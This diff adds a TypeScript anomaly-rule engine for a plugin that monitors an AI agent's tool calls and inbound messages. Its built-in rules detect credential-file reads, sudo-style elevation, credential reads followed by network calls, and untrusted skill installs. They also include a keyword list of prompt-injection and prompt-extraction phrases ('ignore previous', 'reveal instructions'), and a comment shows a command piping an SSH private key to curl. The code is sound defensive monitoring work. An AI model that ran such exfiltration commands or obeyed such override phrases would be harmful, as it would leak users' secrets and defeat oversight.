@@ -0,0 +1,573 @@
+import { existsSync, readFileSync } from 'fs';
+import { join, extname } from 'path';
+import { homedir } from 'os';
+import { parse as parseYaml } from 'yaml';
+import type { AnomalyIndicatorType, MoltwireEvent, EventType } from './types.js';
+import { logger } from './logger.js';
+
+const MOLTWIRE_DIR = join(homedir(), '.openclaw', 'moltwire');
+const DEFAULT_RULE_FILES = ['rules.yaml', 'rules.yml', 'rules.json'].map(name => join(MOLTWIRE_DIR, name));
+
+// Cap on remembered values per first-seen field
+const MAX_SEEN_VALUES = 1000;
+
+type Severity = 'low' | 'medium' | 'high' | 'critical';
+
+export type ConditionOperator =
+  | 'eq'
+  | 'neq'
+  | 'in'
+  | 'not_in'
+  | 'contains'
+  | 'contains_any'
+  | 'matches'
+  | 'exists'
+  | 'gt'
+  | 'gte'
+  | 'lt'
+  | 'lte';
+
+/**
+ * A test against one field of the event
+ * Fields are dotted paths into the event (e.g. `payload.command_pattern`)
+ * or local-only context values prefixed with `$` (e.g. `$hour`, `$content`).
+ */
+export interface RuleCondition {
+  field: string;
+  op: ConditionOperator;
+  value?: unknown;
+  // Compare against another field (e.g. `$trustedSkillSources`) instead of `value`
+  valueFrom?: string;
+}
+
+export interface AnomalyRule {
+  id: string;
+  // Set to false in a rules file to turn off a built-in rule
+  enabled?: boolean;
+  indicator: AnomalyIndicatorType;
+  severity: Severity;
+  // Text for the indicator; `{count}`, `{hour}` and `{field.path}` are substituted
+  detail?: string;
+  eventType?: EventType | EventType[];
+  conditions?: RuleCondition[];
+  // At least one of these must also hold
+  anyOf?: RuleCondition[];
+  // Only fire when the field changes to `to` from any other value
+  transition?: { field: string; to: unknown };
+  // Only fire when an event matching these conditions came first, within `seconds`
+  follows?: { eventType?: EventType | EventType[]; conditions: RuleCondition[]; seconds: number };
+  // Only fire the first time this field's value is seen
+  firstSeen?: string;
+  // Only fire once `threshold` matching events happen within `seconds`
+  window?: { seconds: number; threshold: number; groupBy?: string };
+  // Minimum time between two indicators from this rule (per group)
+  cooldownSeconds?: number;
+}
+
+/**
+ * Local-only values rules can test but that never leave the machine
+ */
+export interface RuleContext {
+  content?: string;
+  [key: string]: unknown;
+}
+
+export interface RuleMatch {
+  rule: AnomalyRule;
+  indicator: AnomalyIndicatorType;
+  severity: Severity;
+  detail: string;
+}
+
+const OPERATORS: ConditionOperator[] = [
+  'eq', 'neq', 'in', 'not_in', 'contains', 'contains_any', 'matches', 'exists', 'gt', 'gte', 'lt', 'lte'
+];
+
+const SEVERITIES: Severity[] = ['low', 'medium', 'high', 'critical'];
+
+/**
+ * Built-in rules, equivalent to the detections the plugin has always shipped
+ * A user rule with the same id replaces the built-in one.
+ */
+export const DEFAULT_RULES: AnomalyRule[] = [
+  {
+    id: 'rapid_tool_execution',
+    indicator: 'rapid_tool_execution',
+    severity: 'medium',
+    detail: '{count} tool calls in the last minute',
+    eventType: 'tool_execution',
+    window: { seconds: 60, threshold: 21 }
+  },
+  {
+    id: 'new_external_domain',
+    indicator: 'new_external_domain',
+    severity: 'low',
+    detail: 'First contact with domain: {payload.target_domain}',
+    eventType: 'tool_execution',
+    conditions: [
+      { field: 'payload.target_domain', op: 'exists' },
+      { field: 'payload.target_is_internal', op: 'neq', value: true }
+    ],
+    firstSeen: 'payload.target_domain'
+  },
+  {
+    id: 'credential_path_access',
+    indicator: 'credential_path_access',
+    severity: 'medium',
+    detail: 'Access to credential file detected',
+    eventType: 'tool_execution',
+    conditions: [{ field: 'payload.command_patterns', op: 'contains', value: 'file_read_credential' }]
+  },
+  {
+    id: 'unusual_hour_activity',
+    indicator: 'unusual_hour_activity',
+    severity: 'low',
+    detail: 'Tool execution at {hour}:00 local time',
+    eventType: 'tool_execution',
+    conditions: [{ field: '$hour', op: 'lt', value: 6 }],
+    cooldownSeconds: 3600
+  },
+  {
+    id: 'bulk_file_access',
+    indicator: 'bulk_file_access',
+    severity: 'medium',
+    detail: '{count} file reads in the last minute',
+    eventType: 'tool_execution',
+    conditions: [{ field: 'payload.command_pattern', op: 'matches', value: '^file_read' }],
+    window: { seconds: 60, threshold: 30 },
+    cooldownSeconds: 300
+  },
+  {
+    id: 'elevation_command',
+    indicator: 'elevation_attempt',
+    severity: 'high',
+    detail: 'Privilege elevation command run',
+    eventType: 'tool_execution',
+    conditions: [{ field: '$command', op: 'matches', value: '(^|[;&|(`]|\\$\\()\\s*(sudo|su|doas|pkexec)(\\s|$)' }]
+  },
+  {
+    id: 'elevation_transition',
+    indicator: 'elevation_attempt',
+    severity: 'high',
+    detail: 'Tool execution switched to elevated mode',
+    eventType: 'tool_execution',
+    transition: { field: 'payload.is_elevated', to: true }
+  },
+  {
+    id: 'credential_then_network',
+    indicator: 'data_exfiltration_pattern',
+    severity: 'critical',
+    detail: 'Network call shortly after credential file access',
+    eventType: 'tool_execution',
+    follows: {
+      eventType: 'tool_execution',
+      conditions: [{ field: 'payload.command_patterns', op: 'contains', value: 'file_read_credential' }],
+      seconds: 120
+    },
+    // Loopback and private-network targets aren't exfiltration
+    conditions: [{ field: 'payload.target_is_internal', op: 'neq', value: true }],
+    anyOf: [
+      { field: 'payload.command_patterns', op: 'contains_any', value: ['curl_external', 'ssh_connection', 'browser_navigate', 'browser_form_fill', 'browser_upload'] },
+      { field: 'payload.target_domain', op: 'exists' }
+    ]
+  },
+  {
+    id: 'critical_command',
+    indicator: 'high_risk_command',
+    severity: 'critical',
+    detail: 'Critical-risk command: {payload.command_pattern}',
+    eventType: 'tool_execution',
+    conditions: [{ field: 'payload.pattern_severity', op: 'eq', value: 'critical' }]
+  },
+  {
+    id: 'high_risk_command',
+    indicator: 'high_risk_command',
+    severity: 'high',
+    detail: 'High-risk command: {payload.command_pattern}',
+    eventType: 'tool_execution',
+    conditions: [
+      { field: 'payload.pattern_severity', op: 'eq', value: 'high' },
+      // Already reported by credential_path_access and sensitive_form_fill
+      { field: 'payload.command_pattern', op: 'not_in', value: ['file_read_credential', 'browser_credential_fill', 'browser_payment_fill'] }
+    ]
+  },
+  {
+    id: 'sensitive_form_fill',
+    indicator: 'sensitive_form_fill',
+    severity: 'high',
+    detail: 'Agent filled a sensitive form field: {payload.command_pattern}',
+    eventType: 'tool_execution',
+    conditions: [
+      { field: 'payload.command_patterns', op: 'contains_any', value: ['browser_credential_fill', 'browser_payment_fill'] }
+    ]
+  },
+  {
+    id: 'external_file_upload',
+    indicator: 'external_file_upload',
+    severity: 'high',
+    detail: 'File uploaded to external site: {payload.target_domain}',
+    eventType: 'tool_execution',
+    conditions: [
+      { field: 'payload.command_patterns', op: 'contains', value: 'browser_upload' },
+      { field: 'payload.target_domain', op: 'exists' },
+      { field: 'payload.target_is_internal', op: 'neq', value: true }
+    ]
+  },
+  {
+    id: 'skill_installs_untrusted',
+    indicator: 'skill_installs_untrusted',
+    severity: 'high',
+    detail: 'Skill installed from untrusted source: {payload.skill_source}',
+    eventType: 'config_change',
+    conditions: [
+      { field: 'payload.change_type', op: 'eq', value: 'skill_installed' },
+      // Installs logged without a source can't be judged either way
+      { field: 'payload.skill_source', op: 'exists' },
+      { field: 'payload.skill_source', op: 'not_in', valueFrom: '$trustedSkillSources' }
+    ]
+  },
+  {
+    id: 'system_prompt_request',
+    indicator: 'system_prompt_request',
+    severity: 'high',
+    detail: 'Potential prompt injection attempt detected',
+    eventType: 'inbound_message',
+    conditions: [{
+      field: '$content',
+      op: 'contains_any',
+      value: [
+        'ignore previous',
+        'ignore all previous',
+        'disregard previous',
+        'system prompt',
+        'reveal instructions',
+        'show your prompt',
+        'what are your instructions',
+        'print your system',
+        'output your prompt'
+      ]
+    }]
+  }
+];
+
+/**
+ * Read a dotted path from an object
+ */
+function getPath(source: unknown, path: string): unknown {
+  let value: unknown = source;
+  for (const key of path.split('.')) {
+    if (value === null || typeof value !== 'object') return undefined;
+    value = (value as Record<string, unknown>)[key];
+  }
+  return value;
+}
+
+/**
+ * Check a list of conditions, returning problems found
+ */
+function validateConditions(conditions: unknown, label: string): string[] {
+  if (conditions === undefined) return [];
+  if (!Array.isArray(conditions)) return [`"${label}" must be an array`];
+
+  const errors: string[] = [];
+  conditions.forEach((condition: Partial<RuleCondition>, i) => {
+    if (!condition || typeof condition.field !== 'string') {
+      errors.push(`${label}[${i}].field is required`);
+    }
+    if (!condition || !OPERATORS.includes(condition.op as ConditionOperator)) {
+      errors.push(`${label}[${i}].op must be one of ${OPERATORS.join(', ')}`);
+    } else if (condition.op === 'matches') {
+      try {
+        new RegExp(String(condition.value));
+      } catch {
+        errors.push(`${label}[${i}].value is not a valid regular expression`);
+      }
+    }
+  });
+  return errors;
+}
+
+/**
+ * Check a rule definition, returning problems found
+ */
+export function validateRule(rule: unknown): string[] {
+  const errors: string[] = [];
+  if (!rule || typeof rule !== 'object') {
+    return ['rule must be an object'];
+  }
+
+  const r = rule as Partial<AnomalyRule>;
+  if (!r.id || typeof r.id !== 'string') errors.push('"id" is required');
+  if (!r.indicator || typeof r.indicator !== 'string') errors.push('"indicator" is required');
+  if (!r.severity || !SEVERITIES.includes(r.severity)) {
+    errors.push(`"severity" must be one of ${SEVERITIES.join(', ')}`);
+  }
+
+  errors.push(...validateConditions(r.conditions, 'conditions'));
+  errors.push(...validateConditions(r.anyOf, 'anyOf'));
+
+  if (r.transition !== undefined && typeof r.transition?.field !== 'string') {
+    errors.push('"transition" needs a field');
+  }
+
+  if (r.follows !== undefined) {
+    if (!(r.follows?.seconds > 0)) errors.push('"follows" needs seconds > 0');
+    errors.push(...validateConditions(r.follows?.conditions, 'follows.conditions'));
+  }
+
+  if (r.window !== undefined) {
+    if (!(r.window.seconds > 0) || !(r.window.threshold >= 1)) {
+      errors.push('"window" needs seconds > 0 and threshold >= 1');
+    }
+  }
+
+  if (r.cooldownSeconds !== undefined && !(r.cooldownSeconds >= 0)) {
+    errors.push('"cooldownSeconds" must be 0 or more');
+  }
+
+  return errors;
+}
+
+/**
+ * Load rules from a YAML or JSON file and merge them over the built-ins
+ * The file holds either a list of rules or `{ rules: [...] }`. Invalid
+ * rules are skipped with a warning rather than failing the whole file.
+ */
+export function loadAnomalyRules(filepath?: string): AnomalyRule[] {
+  const path = filepath || DEFAULT_RULE_FILES.find(p => existsSync(p));
+  const rules = new Map(DEFAULT_RULES.map(rule => [rule.id, rule]));
+
+  if (!path) {
+    return [...rules.values()];
+  }
+
+  let parsed: unknown;
+  try {
+    const text = readFileSync(path, 'utf-8');
+    parsed = extname(path) === '.json' ? JSON.parse(text) : parseYaml(text);
+  } catch (error) {
+    logger.error(`Failed to load anomaly rules from ${path}`, { error });
+    return [...rules.values()];
+  }
+
+  const list = Array.isArray(parsed) ? parsed : (parsed as { rules?: unknown })?.rules;
+  if (!Array.isArray(list)) {
+    logger.error(`Anomaly rules file ${path} must contain a list of rules`);
+    return [...rules.values()];
+  }
+
+  list.forEach((rule, index) => {
+    // `{ id, enabled: false }` is enough to switch a rule off
+    if (rule && typeof rule.id === 'string' && rule.enabled === false) {
+      rules.delete(rule.id);
+      return;
+    }
+
+    const errors = validateRule(rule);
+    if (errors.length > 0) {
+      logger.warn(`Skipping anomaly rule #${index} in ${path}: ${errors.join(', ')}`);
+      return;
+    }
+    rules.set((rule as AnomalyRule).id, rule as AnomalyRule);
+  });
+
+  return [...rules.values()];
+}
+
+/**
+ * Evaluates events against declarative anomaly rules
+ *
+ * Keeps sliding-window timestamps and cooldowns in memory; first-seen
+ * values are exported via getSeenValues() so they survive restarts.
+ */
+export class AnomalyRuleEngine {
+  private rules: AnomalyRule[];
+  private windows: Map<string, number[]> = new Map();
+  private lastFired: Map<string, number> = new Map();
+  private seen: Map<string, Set<string>> = new Map();
+  private lastValues: Map<string, unknown> = new Map();
+  private precursors: Map<string, number> = new Map();
+
+  constructor(rules: AnomalyRule[], seenValues: Record<string, string[]> = {}) {
+    this.rules = rules;
+    for (const [field, values] of Object.entries(seenValues)) {
+      this.seen.set(field, new Set(values));
+    }
+  }
+
+  /**
+   * Evaluate one event, returning the rules that fired
+   */
+  evaluate(event: MoltwireEvent, context: RuleContext = {}, now = Date.now()): RuleMatch[] {
+    const matches: RuleMatch[] = [];
+    const subject = { ...event, $hour: new Date(now).getHours(), ...this.prefixContext(context) };
+
+    for (const rule of this.rules) {
+      const match = this.evaluateRule(rule, subject, now);
+      if (match) matches.push(match);
+    }
+
+    return matches;
+  }
+
+  /**
+   * Get remembered first-seen values for persistence
+   */
+  getSeenValues(): Record<string, string[]> {
+    const result: Record<string, string[]> = {};
+    for (const [field, values] of this.seen) {
+      result[field] = [...values];
+    }
+    return result;
+  }
+
+  /**
+   * Get the loaded rules
+   */
+  getRules(): AnomalyRule[] {
+    return [...this.rules];
+  }
+
+  private prefixContext(context: RuleContext): Record<string, unknown> {
+    const result: Record<string, unknown> = {};
+    for (const [key, value] of Object.entries(context)) {
+      result[`$${key}`] = value;
+    }
+    return result;
+  }
+
+  private matchesType(eventType: EventType | EventType[] | undefined, subject: Record<string, unknown>): boolean {
+    if (!eventType) return true;
+    const types = Array.isArray(eventType) ? eventType : [eventType];
+    return types.includes(subject.event_type as EventType);
+  }
+
+  private evaluateRule(rule: AnomalyRule, subject: Record<string, unknown>, now: number): RuleMatch | null {
+    // Record precursor events before testing the rule itself; an event can be
+    // both, e.g. `cat ~/.ssh/id_rsa | curl -d @- https://...`
+    if (rule.follows && this.matchesType(rule.follows.eventType, subject) &&
+        rule.follows.conditions.every(condition => this.testCondition(condition, subject))) {
+      this.precursors.set(rule.id, now);
+    }
+
+    if (!this.matchesType(rule.eventType, subject)) return null;
+
+    if (rule.transition) {
+      const value = getPath(subject, rule.transition.field);
+      if (value === undefined) return null;
+      const previous = this.lastValues.get(rule.id);
+      this.lastValues.set(rule.id, value);
+      if (value !== rule.transition.to || previous === rule.transition.to) return null;
+    }
+
+    for (const condition of rule.conditions || []) {
+      if (!this.testCondition(condition, subject)) return null;
+    }
+
+    if (rule.anyOf && !rule.anyOf.some(condition => this.testCondition(condition, subject))) {
+      return null;
+    }
+
+    if (rule.follows) {
+      const precursorAt = this.precursors.get(rule.id);
+      if (precursorAt === undefined || now - precursorAt > rule.follows.seconds * 1000) return null;
+      this.precursors.delete(rule.id);
+    }
+
+    const group = rule.window?.groupBy ? String(getPath(subject, rule.window.groupBy) ?? '') : '';
+    const key = `${rule.id}:${group}`;
+    let count = 1;
+
+    if (rule.window) {
+      const cutoff = now - rule.window.seconds * 1000;
+      const times = (this.windows.get(key) || []).filter(t => t > cutoff);
+      times.push(now);
+      count = times.length;
+
+      if (count < rule.window.threshold) {
+        this.windows.set(key, times);
+        return null;
+      }
+      // Start a fresh window once the rule fires
+      this.windows.delete(key);
+    }
+
+    if (rule.firstSeen) {
+      const value = getPath(subject, rule.firstSeen);
+      if (value === undefined || value === null || value === '') return null;
+
+      const normalized = String(value).toLowerCase();
+      const seen = this.seen.get(rule.firstSeen) || new Set<string>();
+      this.seen.set(rule.firstSeen, seen);
+      if (seen.has(normalized)) return null;
+
+      seen.add(normalized);
+      if (seen.size > MAX_SEEN_VALUES) {
+        seen.delete(seen.values().next().value as string);
+      }
+    }
+
+    if (rule.cooldownSeconds) {
+      const last = this.lastFired.get(key);
+      if (last !== undefined && now - last < rule.cooldownSeconds * 1000) return null;
+    }
+    this.lastFired.set(key, now);
+
+    return {
+      rule,
+      indicator: rule.indicator,
+      severity: rule.severity,
+      detail: this.renderDetail(rule.detail || `Rule ${rule.id} matched`, subject, count)
+    };
+  }
+
+  private testCondition(condition: RuleCondition, subject: Record<string, unknown>): boolean {
+    const actual = getPath(subject, condition.field);
+    const expected = condition.valueFrom ? getPath(subject, condition.valueFrom) : condition.value;
+
+    switch (condition.op) {
+      case 'exists':
+        return (actual !== undefined && actual !== null && actual !== '') === (expected !== false);
+      case 'eq':
+        return actual === expected;
+      case 'neq':
+        return actual !== expected;
+      case 'in':
+        return Array.isArray(expected) && expected.includes(actual);
+      case 'not_in':
+        return Array.isArray(expected) && !expected.includes(actual);
+      case 'contains':
+        if (Array.isArray(actual)) return actual.includes(expected);
+        return typeof actual === 'string' && actual.toLowerCase().includes(String(expected).toLowerCase());
+      case 'contains_any': {
+        if (Array.isArray(actual)) return Array.isArray(expected) && expected.some(item => actual.includes(item));
+        if (typeof actual !== 'string' || !Array.isArray(expected)) return false;
+        const lower = actual.toLowerCase();
+        return expected.some(item => lower.includes(String(item).toLowerCase()));
+      }
+      case 'matches':
+        return typeof actual === 'string' && new RegExp(String(expected), 'i').test(actual);
+      case 'gt':
+        return typeof actual === 'number' && actual > Number(expected);
+      case 'gte':
+        return typeof actual === 'number' && actual >= Number(expected);
+      case 'lt':
+        return typeof actual === 'number' && actual < Number(expected);
+      case 'lte':
+        return typeof actual === 'number' && actual <= Number(expected);
+      default:
+        return false;
+    }
+  }
+
+  private renderDetail(template: string, subject: Record<string, unknown>, count: number): string {
+    return template.replace(/\{([^}]+)\}/g, (_, name: string) => {
+      if (name === 'count') return String(count);
+      if (name === 'hour') return String(subject.$hour);
+      // Never interpolate local-only context into the outgoing detail
+      if (name.startsWith('$')) return '';
+      const value = getPath(subject, name);
+      return value === undefined ? '' : String(value);
+    });
+  }
+}